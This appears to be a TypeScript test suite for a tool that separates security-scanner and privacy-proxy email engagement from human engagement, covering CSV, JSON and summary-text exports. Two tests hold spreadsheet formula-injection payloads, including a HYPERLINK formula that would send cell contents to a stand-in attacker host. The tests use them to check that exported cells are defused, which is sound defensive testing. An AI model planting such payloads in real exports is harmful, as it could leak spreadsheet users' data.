import Papa from 'papaparse';
import type { CampaignReport, EventVerdict, Label } from '../../src/shared/types';
import {
  EVENT_CSV_FIELDS,
  buildClientSummaryText,
  buildEventsCsv,
  buildSummaryJson,
  countEngagement,
} from '../../src/ui/report-export';
import { formatCount, formatRate } from '../../src/ui/format';
import { realisticCampaign, realisticReport } from './fixtures/realistic-campaign';
import { emptySummary } from '../setup/summary';
import { describeReason } from '../../src/classifier/reasons';
import { vendorName } from '../../src/shared/vendors';

const campaign = realisticCampaign();
const report = realisticReport(campaign);

function parseCsv(text: string) {
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed;
}

describe('buildEventsCsv', () => {
  it('has one row per verdict with the CLI field names and the same labels, scores and reasons', () => {
    const { data, meta } = parseCsv(buildEventsCsv(report.verdicts));
    expect(meta.fields).toEqual([...EVENT_CSV_FIELDS]);
    expect(data).toHaveLength(report.verdicts.length);
    data.forEach((row, at) => {
      const verdict = report.verdicts[at]!;
      expect(Number(row.index)).toBe(verdict.sourceIndex);
      expect(row.type).toBe(verdict.type);
      expect(row.label).toBe(verdict.label);
      expect(Number(row.score)).toBe(verdict.score);
      expect(row.reasons).toBe(verdict.reasons.join(';'));
    });
  });

  it('counts by label in the CSV equal the summary counts', () => {
    const { data } = parseCsv(buildEventsCsv(report.verdicts));
    const counts: Record<string, number> = {};
    for (const row of data) counts[row.label!] = (counts[row.label!] ?? 0) + 1;
    for (const [label, count] of Object.entries(report.summary.byLabel)) expect(counts[label] ?? 0).toBe(count);
  });

  it('adds time, IP, user agent and URL from the campaign events when given', () => {
    const { data } = parseCsv(buildEventsCsv(report.verdicts, campaign.events));
    const click = campaign.events.find((event) => event.type === 'click' && event.ip?.startsWith('40.94.'))!;
    const row = data.find((candidate) => Number(candidate.index) === click.sourceIndex)!;
    expect(row.ip).toBe(click.ip);
    expect(row.url).toBe(click.url);
    expect(row.userAgent).toBe(click.userAgent);
    expect(Date.parse(row.timestamp!)).toBe(click.timestamp);
    expect(row.label).toBe('scanner');
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const verdict: EventVerdict = {
      sourceIndex: 0,
      type: 'click',
      recipient: '=HYPERLINK("http://evil.example","x")',
      label: 'human',
      score: 0.1,
      reasons: [],
    };
    const { data } = parseCsv(buildEventsCsv([verdict]));
    expect(data[0]!.recipient).toBe(`'${verdict.recipient}`);
  });

  it('defuses a formula followed by a line break (papaparse’s own pattern has no `s` flag and missed it)', () => {
    const verdict: EventVerdict = { sourceIndex: 0, type: 'click', recipient: 'ann@example.org', label: 'scanner', score: 0.9, reasons: ['bot-ua'] };
    const agent = '=HYPERLINK("http://evil.example/?"&A1,"Open")\nMozilla/5.0';
    const { data } = parseCsv(buildEventsCsv([verdict], [{ sourceIndex: 0, type: 'click', userAgent: agent, url: '@SUM(1+1)\r\nx', ip: '+1' }]));
    expect(data[0]!.userAgent).toBe(`'${agent}`);
    expect(data[0]!.url).toBe("'@SUM(1+1)\r\nx");
    expect(data[0]!.ip).toBe("'+1");
    // Plain values are left as they are.
    expect(data[0]!.recipient).toBe('ann@example.org');
  });

  it('fills every column the source had, with reasons as sentences beside the codes and vendor names', () => {
    const { data } = parseCsv(buildEventsCsv(report.verdicts, campaign.events));
    const bySource = new Map(campaign.events.map((event) => [event.sourceIndex, event]));
    for (const row of data) {
      const event = bySource.get(Number(row.index))!;
      const verdict = report.verdicts.find((candidate) => candidate.sourceIndex === Number(row.index))!;
      // Every field the event carried is in its column.
      if (event.ip !== undefined) expect(row.ip).toBe(event.ip);
      if (event.userAgent !== undefined) expect(row.userAgent).toBe(event.userAgent);
      if (event.url !== undefined) expect(row.url).toBe(event.url);
      if (event.timestamp !== undefined) expect(Date.parse(row.timestamp!)).toBe(event.timestamp);
      if (event.messageId !== undefined) expect(row.messageId).toBe(event.messageId);
      expect(row.reason_sentences).toBe(verdict.reasons.map(describeReason).join(' | '));
      if (verdict.vendor) expect(row.vendor_name).toBe(vendorName(verdict.vendor));
    }
    // The realistic campaign has times, addresses, agents and links: none of those columns is empty throughout.
    for (const column of ['timestamp', 'ip', 'userAgent', 'url', 'reason_sentences']) {
      expect(data.some((row) => row[column] !== ''), column).toBe(true);
    }
    expect(data.some((row) => row.vendor_name !== '' && row.vendor_name !== row.vendor)).toBe(true);
  });
});

describe('buildSummaryJson', () => {
  it('carries the summary object unchanged with who and when', () => {
    const parsed = JSON.parse(
      buildSummaryJson(report.summary, {
        campaignName: 'Spring sale 2026',
        esp: 'sendgrid',
        source: 'page',
        generatedAt: Date.UTC(2026, 2, 11, 9, 30),
      }),
    );
    expect(parsed.summary).toEqual(JSON.parse(JSON.stringify(report.summary)));
    expect(parsed).toMatchObject({
      format: 'scanner-sieve-summary/v1',
      campaign: 'Spring sale 2026',
      esp: 'sendgrid',
      source: 'page',
      generatedAt: '2026-03-11T09:30:00.000Z',
    });
  });
});

function verdicts(type: 'open' | 'click', label: Label, count: number, from: number): EventVerdict[] {
  return Array.from({ length: count }, (_, at) => ({
    sourceIndex: from + at,
    type,
    recipient: `r${from + at}@example.com`,
    label,
    score: label === 'human' ? 0.05 : 0.9,
    reasons: [],
  }));
}

describe('buildClientSummaryText', () => {
  it('says "Of 1,240 clicks, 892 came from security scanners" with the rates as the popup prints them', () => {
    const handMade: CampaignReport = {
      verdicts: [
        ...verdicts('click', 'scanner', 892, 0),
        ...verdicts('click', 'human', 348, 892),
        ...verdicts('open', 'proxy', 1500, 1240),
        ...verdicts('open', 'scanner', 210, 2740),
        ...verdicts('open', 'human', 2300, 2950),
      ],
      summary: {
        delivered: 10_000,
        totalEvents: 5250,
        raw: { uniqueOpens: 4010, uniqueClicks: 1100, openRate: 0.401, clickRate: 0.11, clickToOpenRate: 1100 / 4010 },
        qualified: { uniqueOpens: 2300, uniqueClicks: 348, openRate: 0.23, clickRate: 0.0348, clickToOpenRate: 348 / 2300 },
        byLabel: { human: 2648, scanner: 1102, proxy: 1500, suspect: 0 },
        byReason: {},
        byVendor: {},
        links: [],
        scannerUnsubscribes: 3,
        timing: [],
        notes: [],
      },
    };
    const text = buildClientSummaryText(handMade, 'Autumn launch');
    expect(text).toContain('Campaign “Autumn launch”');
    expect(text).toContain('Of 1,240 clicks, 892 came from security scanners (72%), not people.');
    expect(text).toContain('Of 4,010 opens, 1,500 were privacy prefetches');
    expect(text).toContain('and 210 came from security scanners.');
    expect(text).toContain('Unique open rate: 40.1% reported, 23.0% from people (\u221217.1 points).');
    expect(text).toContain('Unique click rate: 11.0% reported, 3.5% from people (\u22127.5 points).');
    expect(text).toContain('Click-to-open rate: 27.4% reported, 15.1% from people (\u221212.3 points).');
    expect(text).toContain('Delivered: 10,000.');
    expect(text).toContain('Warning: 3 unsubscribe clicks');
  });

  it('on a classified campaign, carries exactly the report numbers', () => {
    const text = buildClientSummaryText(report, 'Spring sale 2026');
    const counts = countEngagement(report);
    const clickVerdicts = report.verdicts.filter((verdict) => verdict.type === 'click');
    expect(counts.clicks.total).toBe(clickVerdicts.length);
    expect(counts.clicks.scanner).toBe(clickVerdicts.filter((verdict) => verdict.label === 'scanner').length);
    expect(counts.clicks.total + counts.opens.total).toBe(report.summary.totalEvents);
    expect(text).toContain(`Of ${formatCount(counts.clicks.total)} clicks, ${formatCount(counts.clicks.scanner)} came from security scanners`);
    expect(text).toContain(`Of ${formatCount(counts.opens.total)} opens, ${formatCount(counts.opens.proxy)} were privacy prefetches`);
    const { raw, qualified } = report.summary;
    expect(text).toContain(`Unique open rate: ${formatRate(raw.openRate)} reported, ${formatRate(qualified.openRate)} from people`);
    expect(text).toContain(`Unique click rate: ${formatRate(raw.clickRate)} reported, ${formatRate(qualified.clickRate)} from people`);
    expect(text).toContain(`Delivered: ${formatCount(report.summary.delivered!)}.`);
    expect(text).toContain(`Warning: ${report.summary.scannerUnsubscribes} unsubscribe clicks`);
  });

  it('on an aggregate link table, counts clicks from the links and states the estimate basis', () => {
    const aggregate: CampaignReport = {
      verdicts: [],
      summary: emptySummary({
        links: [
          { url: 'https://a.example/x', rawClicks: 700, qualifiedClicks: 210, rawUniqueClicks: 500, qualifiedUniqueClicks: 180, estimated: true },
          { url: 'https://a.example/y', rawClicks: 540, qualifiedClicks: 138, rawUniqueClicks: 480, qualifiedUniqueClicks: 120, estimated: true },
        ],
        linkFloor: { scannerShare: 0.72, basis: 'the least-clicked link drew 480 unique clicks' },
      }),
    };
    const text = buildClientSummaryText(aggregate);
    expect(text).toContain('Of 1,240 clicks, 892 came from security scanners (72%)');
    expect(text).toContain('about 72% of clicks came from scanners (the least-clicked link drew 480 unique clicks)');
    expect(text).not.toContain('opens');
  });
});
